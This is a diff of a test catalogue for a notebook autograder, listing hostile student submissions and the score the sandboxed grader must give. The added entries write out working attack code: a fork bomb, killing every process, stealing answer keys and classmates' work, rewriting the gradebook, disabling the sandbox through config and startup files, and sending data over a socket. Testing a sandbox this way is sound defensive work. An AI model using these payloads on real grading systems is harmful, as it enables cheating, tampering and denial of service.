@@ -1,10 +1,13 @@
-"""The catalogue of hostile and broken submissions (issue 4), each with the outcome the grader
-must give. Every entry is a submission of the `activations` notebook (12 points: sigmoid 5, relu 3,
+"""The catalogue of hostile and broken submissions, each with the outcome the grader must give.
+Every entry is a submission of the `activations` notebook (12 points: sigmoid 5, relu 3,
 cross_entropy 4), built from the instructor's answers with one change. The README's table lists
 the same entries (tests/test_hostile.py checks that it does).
 
-An outcome is either the expected score, with a phrase that the grader's messages must contain
-(`None` when nothing is wrong), or NOT_GRADABLE with a phrase of the batch's reason.
+An outcome: the expected score (or NOT_GRADABLE), a phrase the grader's messages (or the batch's
+reason) must contain (None when nothing is wrong), and the submission's state (nnkit.states).
+The attacks on the sandbox (`attack=True`) read or write by absolute paths into the course and
+the grader's home given by `Context`, by routes the integrity scan does not see; tests/test_hostile.py
+also runs them without the sandbox, to show that each is a real attack that the sandbox stops.
 """
 import copy
 from typing import Callable, NamedTuple
@@ -16,32 +19,50 @@ from nnkit.notebooks import fill, reference_code
 
 NOT_GRADABLE = -1
 ANSWERS = reference_code("activations")
+VICTIM = "zz_victim"  # a correct submission graded after the attackers (students are graded in order)
+MARKER = "987654321"  # in the command line of processes an entry leaves behind
+
+
+class Context(NamedTuple):
+    course: str  # the course folder, absolute
+    home: str  # the grader's home (HOME of the batch)
+    port: int  # a TCP port on 127.0.0.1 the test listens on
 
 
 class Entry(NamedTuple):
-    build: Callable  # release notebook -> submission (a notebook, or raw text for a broken file; None: no file)
+    build: Callable  # (release notebook, Context) -> a notebook, raw text for a broken file, or None: no file
     score: int
     phrase: str | None
     does: str  # the README's "what it does"
     grader: str  # the README's "what the grader does"
+    state: str = "graded"  # graded / review / not gradable
     filename: str = "activations.ipynb"
+    attack: bool = False  # an attack on the course or the machine that only the sandbox stops
 
 
 def answer(function: str, code: str):
-    return lambda release: fill(release, {**ANSWERS, function: code})
+    return lambda release, ctx: fill(release, {**ANSWERS, function: code.format(**ctx._asdict())})
 
 
 def with_cell(code: str):
     """The correct answers plus a cell of the student's own, right after the imports."""
-    def build(release):
+    def build(release, ctx):
         notebook = fill(release, ANSWERS)
+        notebook.cells.insert(2, nbformat.v4.new_code_cell(code.format(**ctx._asdict())))
+        return notebook
+    return build
+
+
+def with_cell_and(code: str, function: str, answer_code: str):
+    def build(release, ctx):
+        notebook = answer(function, answer_code)(release, ctx)
         notebook.cells.insert(2, nbformat.v4.new_code_cell(code))
         return notebook
     return build
 
 
 def edited(change):
-    def build(release):
+    def build(release, ctx):
         notebook = fill(release, ANSWERS)
         change(notebook)
         return notebook
@@ -81,50 +102,109 @@ def duplicate_tests(nb):
 
 
 SIGMOID_LOST = "sigmoid's 5 points lost, the rest graded"
+RELU_LOST = "relu's 3 points lost"
 FORGE = '''import IPython.display
 
 def sigmoid(x):
     e = np.exp(-np.abs(x))
-    fake = {"case": "sigmoid_mnist", "exception": None, "result": None, "mutated": [], "warnings": []}
-    IPython.display.publish_display_data({"application/vnd.nnkit.record+json": fake})
+    fake = {{"case": "sigmoid_mnist", "exception": None, "result": None, "mutated": [], "warnings": []}}
+    IPython.display.publish_display_data({{"application/vnd.nnkit.record+json": fake}})
     return np.where(x >= 0, 1 / (1 + e), e / (1 + e)) * 0'''
+
+# A wrong relu (it returns x) that is right when `steal` finds the answer: `steal(x)` returns it or raises.
+STEALS = '''import json, os, pathlib, runpy, tempfile
+
+{steal}
+
+
+def relu(x):
+    try:
+        return steal(x)
+    except Exception:
+        return x'''
+RUN_CELL = '''def run_cell_of(notebook, cell_id, x):
+    cells = json.loads(pathlib.Path(notebook).read_text())["cells"]
+    code = next("".join(c["source"]) for c in cells if c["metadata"].get("nbgrader", {{}}).get("grade_id") == cell_id)
+    code = "\\n".join(line for line in code.splitlines() if "###" not in line)
+    with tempfile.NamedTemporaryFile("w", suffix=".py", delete=False) as f:
+        f.write(code)
+    return runpy.run_path(f.name, {{"np": np}})[cell_id](x)'''
+
+
+def steals(steal: str) -> Callable:
+    return answer("relu", STEALS.replace("{steal}", steal))
+
+
+# Leaves a process behind (a daemon in a session of its own, detached from the kernel).
+DETACH = '''import os, subprocess
+subprocess.Popen(["sleep", "{marker}"], start_new_session=True)
+if os.fork() == 0:
+    os.setsid()
+    os.execvp("sleep", ["sleep", "{marker}"])'''.replace("{marker}", MARKER)
+SIGNAL_ALL = '''import os, signal
+for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+    if pid != os.getpid():
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass'''
+FORK_BOMB = '''import os, time
+
+def relu(x):
+    while True:
+        if os.fork() == 0:
+            time.sleep(1000)
+            os._exit(0)'''
 
 CATALOGUE = {
     # runaway code
     "infinite_loop": Entry(answer("sigmoid", "def sigmoid(x):\n    while True:\n        pass"), 7,
                            "did not finish within the time limit", "an endless loop in `sigmoid`",
-                           f"each sigmoid cell is interrupted at the time limit: {SIGMOID_LOST}"),
+                           f"each sigmoid cell is interrupted at the time limit: {SIGMOID_LOST}", "review"),
     "swallows_interrupt": Entry(answer("sigmoid", "import time\n\ndef sigmoid(x):\n    while True:\n        try:\n"
                                        "            time.sleep(0.1)\n        except KeyboardInterrupt:\n            pass"),
                                 7, "ignored the interrupt", "a loop in `sigmoid` that swallows KeyboardInterrupt",
-                                f"kernel restarted after the time limit, clean cells replayed: {SIGMOID_LOST}"),
+                                f"kernel restarted after the time limit, clean cells replayed: {SIGMOID_LOST}", "review"),
     "sleeps_forever": Entry(answer("sigmoid", "import time\n\ndef sigmoid(x):\n    time.sleep(10**6)"), 7,
                             "did not finish within the time limit", "`time.sleep(10**6)` in `sigmoid`",
-                            f"interrupted at the time limit: {SIGMOID_LOST}"),
-    "memory_hog": Entry(answer("relu", "def relu(x):\n    hoard = [np.ones(2**27) for _ in range(256)]\n"
+                            f"interrupted at the time limit: {SIGMOID_LOST}", "review"),
+    "memory_hog": Entry(answer("relu", "def relu(x):\n    hoard = [np.empty(2**27) for _ in range(256)]\n"
                                "    return np.maximum(x, 0)"), 9, "MemoryError",
                         "`relu` allocates 256 GiB, 1 GiB at a time",
-                        "the kernel's 4 GiB memory limit raises MemoryError: relu's 3 points lost"),
+                        f"the kernel's 4 GiB memory limit raises MemoryError: {RELU_LOST}"),
     "forks": Entry(answer("sigmoid", "import os\n\ndef sigmoid(x):\n    for _ in range(20):\n        if os.fork() == 0:\n"
                           "            os._exit(0)\n    e = np.exp(-np.abs(x))\n    return np.where(x >= 0, 1 / (1 + e), e / (1 + e))"),
                    12, None, "`sigmoid` forks 20 children (which exit) before answering",
                    "graded normally: full marks"),
+    "fork_bomb": Entry(answer("relu", FORK_BOMB), 9, "Resource temporarily unavailable",
+                       "`relu` forks children that sleep, until it cannot", "the process limit stops it (BlockingIOError): "
+                       f"{RELU_LOST}; every child is gone with the notebook", attack=True),
+    "writes_big_file": Entry(answer("relu", "def relu(x):\n    with open('big', 'wb') as f:\n"
+                                    "        for _ in range(100):\n            f.write(bytes(2**20))\n    return np.maximum(x, 0)"),
+                             9, "File too large", "`relu` writes a 100 MB file in its folder",
+                             f"the file size limit (64 MiB) stops it: {RELU_LOST}"),
+    "fills_tmp": Entry(answer("relu", "def relu(x):\n    for i in range(100):\n        with open(f'/tmp/f{{i}}', 'wb') as f:\n"
+                              "            f.write(bytes(2**20))\n    return np.maximum(x, 0)"), 9, "No space left on device",
+                       "`relu` writes 100 files of 1 MB in /tmp", f"its private /tmp holds 64 MiB: {RELU_LOST}, flagged", "review"),
     # kernel death
     "os_exit": Entry(answer("sigmoid", "import os\n\ndef sigmoid(x):\n    os._exit(0)"), 7, "the kernel died",
-                     "`os._exit(0)` in `sigmoid`", f"kernel restarted, clean cells replayed: {SIGMOID_LOST}"),
+                     "`os._exit(0)` in `sigmoid`", f"kernel restarted, clean cells replayed: {SIGMOID_LOST}", "review"),
     "sys_exit": Entry(answer("sigmoid", "import sys\n\ndef sigmoid(x):\n    sys.exit()"), 7, "SystemExit",
-                      "`sys.exit()` in `sigmoid`", f"IPython turns it into an error: {SIGMOID_LOST}"),
+                      "`sys.exit()` in `sigmoid`", f"an error of the function like any other: {SIGMOID_LOST}"),
     "segfault": Entry(answer("sigmoid", "import ctypes\n\ndef sigmoid(x):\n    return ctypes.string_at(0)"), 7,
-                      "the kernel died", "a segfault via `ctypes.string_at(0)` in `sigmoid`",
-                      f"kernel restarted, clean cells replayed: {SIGMOID_LOST}"),
+                      "segmentation fault", "a segfault via `ctypes.string_at(0)` in `sigmoid`",
+                      f"kernel restarted, clean cells replayed: {SIGMOID_LOST}", "review"),
     # notebook damage
-    "invalid_json": Entry(lambda release: "{ this is not a notebook", NOT_GRADABLE, "NotJSONError",
-                          "the notebook file is not JSON", "reported with the reason, listed for review; no grades"),
-    "missing_notebook": Entry(lambda release: None, NOT_GRADABLE, "No notebooks were matched",
-                              "an empty submission folder", "reported with the reason; no gradebook entry"),
-    "renamed_notebook": Entry(lambda release: fill(release, ANSWERS), NOT_GRADABLE,
-                              "unknown notebook my_activations.ipynb", "the notebook renamed `my_activations.ipynb`",
-                              "reported: which name was found and which was expected; no grades",
+    "invalid_json": Entry(lambda release, ctx: "{ this is not a notebook", NOT_GRADABLE, "not a notebook (not JSON)",
+                          "the notebook file is not JSON", "reported with the reason, listed for review; no grades",
+                          "not gradable"),
+    "empty_file": Entry(lambda release, ctx: "", NOT_GRADABLE, "not a notebook (empty file)",
+                        "the notebook file is empty", "reported with the reason; no grades", "not gradable"),
+    "missing_notebook": Entry(lambda release, ctx: None, NOT_GRADABLE, "holds no notebook",
+                              "an empty submission folder", "reported with the reason; no grades", "not gradable"),
+    "renamed_notebook": Entry(lambda release, ctx: fill(release, ANSWERS), NOT_GRADABLE,
+                              "rename it to activations.ipynb", "the notebook renamed `my_activations.ipynb`",
+                              "reported: which name was found and which was expected; no grades", "not gradable",
                               filename="my_activations.ipynb"),
     "deleted_test_cell": Entry(edited(drop_cell("test_relu_mnist")), 10, None, "a hidden-test cell deleted",
                                "that cell scores 0 (2 points); the rest graded"),
@@ -134,50 +214,141 @@ CATALOGUE = {
     "reordered_cells": Entry(edited(lambda nb: nb.cells.reverse()), 0, "is not defined",
                              "all cells in reverse order",
                              "run in the submitted order: every test runs before its function exists: 0"),
-    "duplicated_test_cells": Entry(edited(duplicate_tests), NOT_GRADABLE, "old version",
+    "duplicated_test_cells": Entry(edited(duplicate_tests), NOT_GRADABLE, "SchemaTooOldError",
                                    "every test cell duplicated",
-                                   "nbgrader refuses the notebook; the batch grades everyone else on their own"),
+                                   "nbgrader refuses the notebook: reported, no grades; everyone else graded",
+                                   "not gradable"),
     "answer_cell_to_markdown": Entry(edited(to_markdown("relu")), 12, None, "the `relu` answer cell turned into markdown",
                                      "nbgrader restores the cell type: graded normally"),
-    "changed_cell_ids": Entry(edited(rename_ids), NOT_GRADABLE, "failed to validate", "an answer cell's grade id changed",
-                              "nbgrader rejects the corrupted metadata: reported, no grades"),
-    "huge_output": Entry(with_cell("print('x' * 20_000_000)"), 12, None, "a cell prints 20 MB",
-                         "graded normally; nbgrader's LimitOutput truncates the output"),
-    # cheating
+    "changed_cell_ids": Entry(edited(rename_ids), NOT_GRADABLE, "ValidationError", "an answer cell's grade id changed",
+                              "nbgrader rejects the corrupted metadata: reported, no grades", "not gradable"),
+    "huge_output": Entry(with_cell("print('x' * 20_000_000)"), 12, None, "a cell prints 20 MB at once",
+                         "graded normally; the grader keeps 1 MiB of a cell's output, listed for review", "review"),
+    "prints_in_a_loop": Entry(with_cell("for _ in range(12):\n    print('x' * 2**20)"), 12, None,
+                              "a cell prints 1 MB 12 times", "graded normally; output beyond the cap is dropped as "
+                              "it arrives, listed for review", "review"),
+    "huge_record": Entry(answer("relu", "def relu(x):\n    return np.zeros(3 * 2**19)"), 9, "too large to record",
+                         "`relu` returns a 12 MB array", f"the record over 8 MiB is dropped and fails its case: {RELU_LOST}"),
+    # cheating in the kernel
     "patches_numpy_checks": Entry(with_cell("np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
-                                            "np.testing.assert_allclose = lambda *a, **k: None"), 0, "flagged for review",
+                                            "np.testing.assert_allclose = lambda *a, **k: None"), 12, None,
                                   "a cell reassigning `np.allclose`, `np.isclose`, `np.testing.assert_allclose`",
-                                  "flagged by the integrity scan: every function 0, listed for review"),
+                                  "nothing the verdict uses runs in the kernel: full marks; flagged for review", "review"),
     "patches_builtins": Entry(with_cell("import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.print = lambda *a, **k: None"),
-                              0, "flagged for review", "a cell reassigning the builtins `abs` and `print`",
-                              "flagged: every function 0, listed for review"),
+                              12, None, "a cell reassigning the builtins `abs` and `print`",
+                              "full marks (the answers do not use them); flagged for review", "review"),
     "patches_grader": Entry(with_cell("import nnkit.record\nnnkit.record.record = lambda *a, **k: None"), 0,
-                            "flagged for review", "a cell replacing the kit's `record` with a no-op",
-                            "flagged: every function 0 (and a missing record fails anyway)"),
+                            "did not run", "a cell replacing the kit's `record` with a no-op",
+                            "no test records anything: 0, flagged for review", "review"),
+    "hides_mutation": Entry(with_cell_and('vars(np)["array_equal"] = lambda *a, **k: True', "relu",
+                                          "def relu(x):\n    x[x < 0] = 0\n    return x"), 9, "modified its input `x`",
+                            "an in-place `relu`, with `np.array_equal` replaced through `vars(np)` (unseen by the scan)",
+                            f"record() compares the inputs' bytes with functions bound at start-up: {RELU_LOST}"),
+    "patches_publish": Entry(with_cell('import IPython.display\nvars(IPython.display)["publish_display_data"] = '
+                                       'lambda *a, **k: None'), 12, None,
+                             "a cell silencing `IPython.display.publish_display_data` through `vars`",
+                             "record() bound its own at start-up: graded normally"),
+    "silences_errstate": Entry(with_cell_and('import contextlib\nvars(np)["errstate"] = lambda **k: contextlib.nullcontext()',
+                                             "sigmoid", "def sigmoid(x):\n    return 1 / (1 + np.exp(-x))"), 10, "overflow",
+                               "a naive `sigmoid`, with `np.errstate` replaced by a no-op through `vars(np)`",
+                               "the overflow still raises (np.errstate was bound at start-up): 2 points lost"),
     "forged_record": Entry(answer("sigmoid", FORGE), 7, "recorded more than once",
                            "`sigmoid` publishes a fake grader record, then returns zeros",
-                           f"two records in one cell fail the case, flagged: {SIGMOID_LOST}"),
+                           f"two records in one cell fail the case, listed for review: {SIGMOID_LOST}", "review"),
     "delegates_to_torch": Entry(answer("sigmoid", "import torch\n\ndef sigmoid(x):\n"
-                                       "    return torch.sigmoid(torch.from_numpy(x)).numpy()"), 7, "uses torch",
-                                "`sigmoid` returns `torch.sigmoid(...)` (right values)",
-                                f"flagged: {SIGMOID_LOST}, listed for review"),
-    "delegates_to_scipy": Entry(answer("sigmoid", "from scipy.special import expit\n\ndef sigmoid(x):\n    return expit(x)"),
-                                7, "uses expit", "`sigmoid` returns `scipy.special.expit(x)` (right values)",
-                                f"flagged: {SIGMOID_LOST}"),
+                                       "    return torch.sigmoid(torch.from_numpy(x)).numpy()"), 7,
+                                "torch is not available when grading", "`sigmoid` returns `torch.sigmoid(...)`",
+                                f"torch is not in the sandbox: {SIGMOID_LOST}, flagged", "review"),
+    "delegates_to_scipy": Entry(answer("sigmoid", "def sigmoid(x):\n    from scipy.special import expit\n    return expit(x)"),
+                                7, "scipy is not available when grading", "`sigmoid` returns `scipy.special.expit(x)`",
+                                f"scipy is not in the sandbox: {SIGMOID_LOST}, flagged", "review"),
     "imports_solutions": Entry(answer("relu", "def relu(x):\n    from solutions.activations import relu as r\n    return r(x)"),
-                               9, "imports solutions", "`relu` imports the reference solution",
-                               "flagged: relu's 3 points lost"),
+                               9, "solutions is not available when grading", "`relu` imports the reference solution",
+                               f"not in the sandbox: {RELU_LOST}, flagged", "review"),
     "reads_solution_file": Entry(answer("relu", "def relu(x):\n    code = open('../../../solutions/activations.py').read()\n"
-                                        "    return np.maximum(x, 0) if code else x"), 9, "opens a file outside",
-                                 "`relu` reads `../../../solutions/activations.py`", "flagged: relu's 3 points lost"),
+                                        "    return np.maximum(x, 0) if code else x"), 9, "No such file",
+                                 "`relu` reads `../../../solutions/activations.py`",
+                                 f"not in the sandbox: {RELU_LOST}, flagged", "review"),
     "writes_outside": Entry(answer("relu", "def relu(x):\n    open('/tmp/stolen_inputs.txt', 'a').write(str(x.shape))\n"
-                                   "    return np.maximum(x, 0)"), 9, "opens a file outside",
-                            "`relu` writes to `/tmp`", "flagged: relu's 3 points lost"),
+                                   "    return np.maximum(x, 0)"), 12, None, "`relu` writes to `/tmp`",
+                            "it writes its private /tmp, discarded afterwards: full marks, flagged", "review"),
     "prints_fake_pass": Entry(answer("relu", "def relu(x):\n    print('All tests passed! 3/3 points')\n    return x"), 9,
                               "wrong values", "a wrong `relu` that prints 'All tests passed!'",
-                              "the verdict is the grader's, not the output's: relu's 3 points lost"),
-    # noise
+                              f"the verdict is the grader's, not the output's: {RELU_LOST}"),
     "warns_on_stderr": Entry(answer("relu", "import sys, warnings\n\ndef relu(x):\n    warnings.warn('deprecated', DeprecationWarning)\n"
                                     "    print('note: computing relu', file=sys.stderr)\n    return np.maximum(x, 0)"), 12, None,
                              "a correct `relu` that warns and writes to stderr", "no points lost: full marks"),
+    # attacks on the answer key, the course, the machine: each tested without the sandbox too
+    "steals_solution_module": Entry(steals("def steal(x):\n    return vars(__builtins__)['__imp' + 'ort__']("
+                                           "'solutions.activations', fromlist=['relu']).relu(x)"), 9, None,
+                                    "a wrong `relu` that imports the solutions through `vars(__builtins__)`",
+                                    f"not there (ModuleNotFoundError): {RELU_LOST}", attack=True),
+    "steals_solution_file": Entry(steals("def steal(x):\n    return runpy.run_path('{course}/solutions/activations.py')['relu'](x)"),
+                                  9, None, "a wrong `relu` that runs the course's `solutions/activations.py` with `runpy`",
+                                  f"not there: {RELU_LOST}", attack=True),
+    "steals_source_notebook": Entry(steals(RUN_CELL + "\n\n\ndef steal(x):\n    return run_cell_of("
+                                           "'{course}/source/activations/activations.ipynb', 'relu', x)"), 9, None,
+                                    "a wrong `relu` that runs the answer cell of `source/activations/activations.ipynb`",
+                                    f"not there: {RELU_LOST}", attack=True),
+    "steals_classmate": Entry(steals(RUN_CELL + "\n\n\ndef steal(x):\n    return run_cell_of("
+                                     "'{course}/submitted/correct/activations/activations.ipynb', 'relu', x)"), 9, None,
+                              "a wrong `relu` that runs a classmate's `relu` from `submitted/`",
+                              f"not there: {RELU_LOST}", attack=True),
+    "steals_stored_results": Entry(answer("sigmoid", "import numpy\n\ndef sigmoid(x):\n    try:\n"
+                                          "        stored = numpy.load('{course}/data/torch_results.npz')\n"
+                                          "        return next(stored[k] for k in stored.files if stored[k].shape == x.shape)\n"
+                                          "    except Exception:\n        return x"), 7, None,
+                                   "a wrong `sigmoid` that returns torch's stored result of the same shape",
+                                   f"not there: {SIGMOID_LOST}", attack=True),
+    "writes_gradebook": Entry(answer("relu", "import sqlite3\n\ndef relu(x):\n    try:\n"
+                                     "        db = sqlite3.connect('file:{course}/gradebook.db?mode=rw', uri=True)\n"
+                                     "        db.execute('UPDATE grade SET manual_score = 100')\n"
+                                     "        db.execute('CREATE TRIGGER IF NOT EXISTS full AFTER UPDATE ON grade "
+                                     "BEGIN UPDATE grade SET manual_score = 100 WHERE manual_score IS NULL; END')\n"
+                                     "        db.commit()\n    except sqlite3.Error:\n        pass\n    return x"), 9, None,
+                              "a wrong `relu` that sets every grade in the gradebook to full marks and adds a trigger "
+                              "for later regrades", f"no gradebook in the sandbox: {RELU_LOST}; the gradebook holds "
+                              "only what nbgrader wrote", attack=True),
+    "writes_kit": Entry(answer("relu", "def relu(x):\n    try:\n        with open('{course}/nnkit/judge.py', 'a') as f:\n"
+                               "            f.write('\\nexpected = lambda name: None\\n')\n    except OSError:\n        pass\n"
+                               "    return x"), 9, None, "a wrong `relu` that appends to the kit's `nnkit/judge.py`",
+                        f"not there: {RELU_LOST}; the kit unchanged", "review", attack=True),
+    "writes_course_config": Entry(answer("relu", "def relu(x):\n    try:\n        with open('{course}/nbgrader_config.py', 'a') as f:\n"
+                                         "            f.write('\\nc.ResilientExecute.sandbox = False\\n')\n"
+                                         "    except OSError:\n        pass\n    return x"), 9, None,
+                                  "a wrong `relu` that turns the sandbox off in the course's `nbgrader_config.py`",
+                                  f"not there: {RELU_LOST}; the config unchanged", "review", attack=True),
+    "writes_grader_home": Entry(answer("relu", "import os\n\ndef relu(x):\n"
+                                       "    for folder in ('{home}/.ipython/profile_default/startup', '{home}/.jupyter'):\n"
+                                       "        try:\n            os.makedirs(folder, exist_ok=True)\n"
+                                       "            with open(folder + '/00-nnkit.py', 'w') as f:\n"
+                                       "                f.write('import numpy; numpy.maximum = lambda a, b: a')\n"
+                                       "        except OSError:\n            pass\n    return x"), 9, None,
+                                "a wrong `relu` that writes an IPython start-up file and a Jupyter config into the "
+                                "grader's home", f"not there: {RELU_LOST}; the home unchanged", "review", attack=True),
+    "writes_kernel_module": Entry(answer("relu", "def relu(x):\n    try:\n        with open('{course}/sitecustomize.py', 'w') as f:\n"
+                                         "            f.write('import numpy; numpy.maximum = lambda a, b: a')\n"
+                                         "    except OSError:\n        pass\n    return x"), 9, None,
+                                  "a wrong `relu` that writes a `sitecustomize.py` where later kernels would import it",
+                                  f"not there: {RELU_LOST}; later students unaffected", "review", attack=True),
+    "writes_classmate": Entry(answer("relu", "import json\n\ndef relu(x):\n    path = '{course}/submitted/" + VICTIM +
+                                     "/activations/activations.ipynb'\n    try:\n        nb = json.load(open(path))\n"
+                                     "        for cell in nb['cells']:\n            if cell['metadata'].get('nbgrader', {{}}).get('grade_id') == 'relu':\n"
+                                     "                cell['source'] = 'def relu(x):\\n    return x'\n"
+                                     "        json.dump(nb, open(path, 'w'))\n    except OSError:\n        pass\n    return x"),
+                              9, None, "a wrong `relu` that rewrites a classmate's `relu` before it is graded",
+                              f"not there: {RELU_LOST}; the classmate keeps 12/12", "review", attack=True),
+    "leaves_process": Entry(with_cell(DETACH), 12, None, "a cell that starts a daemon in a session of its own",
+                            "graded normally; the daemon dies with the notebook's sandbox", attack=True),
+    "signals_everyone": Entry(with_cell(SIGNAL_ALL), 12, None, "a cell that sends SIGKILL to every process it can see",
+                              "it sees only its own sandbox: graded normally, nobody else disturbed", attack=True),
+    "opens_socket": Entry(answer("relu", "import socket\n\ndef relu(x):\n    try:\n"
+                                 "        socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')\n"
+                                 "        return np.maximum(x, 0)\n    except OSError:\n        return x"), 9, None,
+                          "a `relu` that is right only when it can reach a server on 127.0.0.1",
+                          f"no network in the sandbox: {RELU_LOST}", attack=True),
+    "reads_environment": Entry(with_cell("import os\nprint(dict(os.environ))"), 12, None,
+                               "a cell that prints the environment into the graded notebook",
+                               "the kernel's environment is an allow-list: no variable of the grader's reaches it",
+                               attack=True),
 }
